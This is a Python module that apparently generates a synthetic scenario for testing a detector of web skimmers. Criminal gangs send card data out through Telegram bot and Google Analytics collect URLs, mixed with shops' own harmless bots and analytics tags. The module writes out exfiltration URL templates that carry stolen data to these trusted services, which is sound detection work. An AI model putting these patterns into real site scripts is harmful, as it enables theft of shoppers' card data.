"""Attackers in other people's houses."""

from ..world.attackers import Skimmer, spread
from ..world.shops import DAY, TYPING

TELEGRAM, ANALYTICS = "api.telegram.org", "www.google-analytics.com"


def abused_storage(s):
    """Card data goes to services that others use honestly; only the identifier in the address is new. One gang sends to a Telegram bot,
    from five shops; another to its own Google Analytics property, from six, of which some report their own property every day.

    Looks like it: four shops have order bells by Telegram bots of their own, five adopt Google Analytics meanwhile under a property of
    their own, and one changes from one property to another.
    """
    rng = s.luck("borrowed")
    s.furnish()
    bells = s.harmless("order-bell", "a shop's own Telegram bot")
    for number, shop in enumerate(s.choose(4, lambda shop: "connect" in shop.watches)):
        token = f"{rng.randrange(10**9, 7 * 10**9)}:AAF{rng.getrandbits(128):032x}"
        since = 0.0 if number < 2 else s.after(rng.uniform(0.5, 4))
        shop.embed(
            (("connect", f"https://{TELEGRAM}/bot{token}/sendMessage?chat_id=-100{rng.randrange(10**9)}&text=order"),),
            since=since,
            pages=(4,),
            cause=bells,
        )
    token = f"{rng.randrange(10**9, 7 * 10**9)}:AAE{rng.getrandbits(128):032x}"
    bot = Skimmer(
        s.crime("abused-service", "telegram-bot"),
        (
            (
                "connect",
                f"https://{TELEGRAM}/bot{token}/sendMessage?chat_id=-100{rng.randrange(10**9)}&text={{hex}}{{hex}}",
                "exfil",
            ),
        ),
        "nothing",
        source="/js/theme.js",
        owned=False,
    )
    property_ = f"G-{''.join(rng.choices('ABCDEFGHJKLMNPQRSTUVWXYZ0123456789', k=10))}"
    drop = Skimmer(
        s.crime("abused-service", "analytics-property"),
        (
            (
                "connect",
                f"https://{ANALYTICS}/g/collect?v=2&tid={property_}&cid={{n}}.{{n}}&en=purchase&ep.d={{hex}}{{hex}}",
                "exfil",
            ),
        ),
        "nothing",
        owned=False,
    )
    open_to = lambda host: lambda shop: "connect" in shop.watches and not any(
        kind == "connect" and name == host for _, kind, name in shop.changes
    )
    for skimmer, host, count, start in ((bot, TELEGRAM, 5, 0.8), (drop, ANALYTICS, 6, 2.0)):
        for shop, at in zip(s.choose(count, open_to(host)), spread(count, s.after(start), 2.5, rng)):
            skimmer.hits(shop, at)
    measuring = s.harmless("new-tag", "shops that adopt Google Analytics, or another property")
    for shop in s.choose(6, open_to(ANALYTICS)):
        since = s.after(rng.uniform(0.5, 5))
        url = f"https://{ANALYTICS}/g/collect?v=2&tid=G-{{own}}9&cid={{n}}.{{n}}"
        shop.embed(
            (("connect", url),),
            since=since,
            allowed=since + 2 * DAY if rng.random() < 0.4 else None,
            cause=measuring,
            pages=TYPING if rng.random() < 0.2 else (0, 1, 2, 3, 4),
        )
